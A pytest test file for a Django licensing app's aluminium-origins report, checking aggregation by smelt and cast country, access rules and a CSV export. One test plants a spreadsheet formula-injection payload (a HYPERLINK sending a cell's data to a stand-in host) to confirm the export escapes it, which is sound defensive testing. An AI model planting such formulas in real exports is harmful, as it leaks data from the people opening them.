"""
The report of declared smelt and cast origins of aluminium goods (issue 19.10): by country, product (HS heading) and
volume, for officials, as a page, an API and a CSV download.
"""
import csv
import io
from decimal import Decimal

import pytest
from django.utils import timezone

from licensing.reference.models import Country
from licensing.reporting.aluminium import aluminium_origins
from licensing.reporting.tables import Period
from tests.factories import application_draft, application_submitted

pytestmark = pytest.mark.django_db


def line(hs_code, quantity, value, *, first=None, second=None, cast=None, unit="kg", **fields):
    return {
        "goods_kind": "unlisted", "description": "Aluminium product", "control_entry": "", "hs_code": hs_code, "quantity": quantity,
        "unit": unit, "value_eur": value, "first_smelt_country": first, "second_smelt_country": second, "last_cast_country": cast, **fields,
    }


@pytest.fixture
def declared(exporter_a):
    """Three submitted applications with aluminium lines, a steel line, and a draft that does not count."""
    application_submitted(exporter_a, goods=[
        line("7604.21", "1000", "5000.00", first="NO", second="IS", cast="TR"),
        line("7606.12", "500", "3000.00", first="KZ", cast="TR"),
        line("7208.10", "9000", "9000.00", description="Steel"),  # not aluminium: never counted
    ])
    application_submitted(exporter_a, goods=[line("760421", "250", "1250.00", first="NO", cast="TR")])
    application_submitted(exporter_a, goods=[line("", "4", "800.00", first="CN", cast="CN", unit="pieces", is_aluminium=True), line("7616.99", "10", "100.00")])
    application_draft(exporter_a, goods=[line("7604.21", "99999", "99999.00", first="RU", cast="RU")])
    return Period(timezone.localdate().year)


def test_rows_by_step_country_heading_and_volume(declared):
    """Seed 000 question 5: "zicht op de omvang van indirecte importstromen van aluminiumproducten ...,
    uitgesplitst naar herkomstland, productcategorie en importvolume"; question 8 names the steps: the most and
    second most important smelt and the last cast."""
    rows = {(r.step, r.country, r.hs_heading, r.unit): (r.lines, r.applications, r.quantity, r.value_eur) for r in aluminium_origins(declared)}
    assert rows == {
        ("first_smelt_country", "NO", "7604", "kg"): (2, 2, Decimal("1250"), Decimal("6250.00")),
        ("first_smelt_country", "KZ", "7606", "kg"): (1, 1, Decimal("500"), Decimal("3000.00")),
        ("first_smelt_country", "CN", "", "pieces"): (1, 1, Decimal("4"), Decimal("800.00")),
        ("first_smelt_country", None, "7616", "kg"): (1, 1, Decimal("10"), Decimal("100.00")),
        ("second_smelt_country", "IS", "7604", "kg"): (1, 1, Decimal("1000"), Decimal("5000.00")),
        ("second_smelt_country", None, "7604", "kg"): (1, 1, Decimal("250"), Decimal("1250.00")),
        ("second_smelt_country", None, "7606", "kg"): (1, 1, Decimal("500"), Decimal("3000.00")),
        ("second_smelt_country", None, "", "pieces"): (1, 1, Decimal("4"), Decimal("800.00")),
        ("second_smelt_country", None, "7616", "kg"): (1, 1, Decimal("10"), Decimal("100.00")),
        ("last_cast_country", "TR", "7604", "kg"): (2, 2, Decimal("1250"), Decimal("6250.00")),
        ("last_cast_country", "TR", "7606", "kg"): (1, 1, Decimal("500"), Decimal("3000.00")),
        ("last_cast_country", "CN", "", "pieces"): (1, 1, Decimal("4"), Decimal("800.00")),
        ("last_cast_country", None, "7616", "kg"): (1, 1, Decimal("10"), Decimal("100.00")),
    }


def test_each_step_adds_up_to_every_aluminium_line(declared):
    rows = aluminium_origins(declared)
    totals = {step: sum(r.value_eur for r in rows if r.step == step) for step in {r.step for r in rows}}
    assert set(totals.values()) == {Decimal("10150.00")}  # the five aluminium lines, not the steel nor the draft


def test_another_year_has_no_rows(declared):
    assert aluminium_origins(Period(declared.year - 1)) == []


def test_officials_read_it_from_the_api_and_exporters_do_not(declared, api_as, officer, exporter_a):
    url = f"/api/v1/reports/aluminium-origins/{declared.year}/"
    rows = api_as(officer).get(url).json()
    assert rows[0] == {
        "step": "first_smelt_country", "country": "NO", "hs_heading": "7604", "unit": "kg", "lines": 2, "applications": 2,
        "quantity": "1250.000", "value_eur": "6250.00",
    }
    assert api_as(exporter_a).get(url).status_code == 403
    assert api_as(officer).get(url, {"format": "pdf"}).status_code == 400


def test_the_csv_escapes_what_a_spreadsheet_would_run(declared, api_as, officer):
    """The cells pass the exports' one formula-injection rule (core.spreadsheets): a country name an administrator
    edited into a formula reaches the official's spreadsheet as text."""
    Country.objects.filter(code="NO").update(name_en='=HYPERLINK("http://x/?"&A1)', name_nl='=HYPERLINK("http://x/?"&A1)')
    response = api_as(officer).get(f"/api/v1/reports/aluminium-origins/{declared.year}/", {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    norway = next(r for r in rows if r[1] == "NO")
    assert norway[2] == "'=HYPERLINK(\"http://x/?\"&A1)"
    assert norway[3:] == ["7604", "kg", "2", "2", "1250.00", "6250.00"]


def test_the_page_shows_the_rows_and_offers_the_csv(declared, client, officer, exporter_a):
    client.force_login(officer)
    page = client.get(f"/reports/aluminium/{declared.year}/", HTTP_ACCEPT_LANGUAGE="en")
    assert page.status_code == 200
    assert b"7604" in page.content and b"?format=csv" in page.content
    download = client.get(f"/reports/aluminium/{declared.year}/", {"format": "csv"})
    assert download["Content-Type"].startswith("text/csv") and b"7606" in download.content
    client.force_login(exporter_a)
    assert client.get(f"/reports/aluminium/{declared.year}/").status_code in (403, 404)


@pytest.mark.parametrize("query", ["", "?year=abc", "?year=1800&month=13"])
def test_the_reports_index_links_to_it_whatever_the_query(client, officer, query):
    """The link may not depend on what the reader typed into the period form (a typed year is no URL part)."""
    client.force_login(officer)
    page = client.get(f"/reports/{query}")
    assert page.status_code == 200 and f"/reports/aluminium/{timezone.localdate().year}/".encode() in page.content
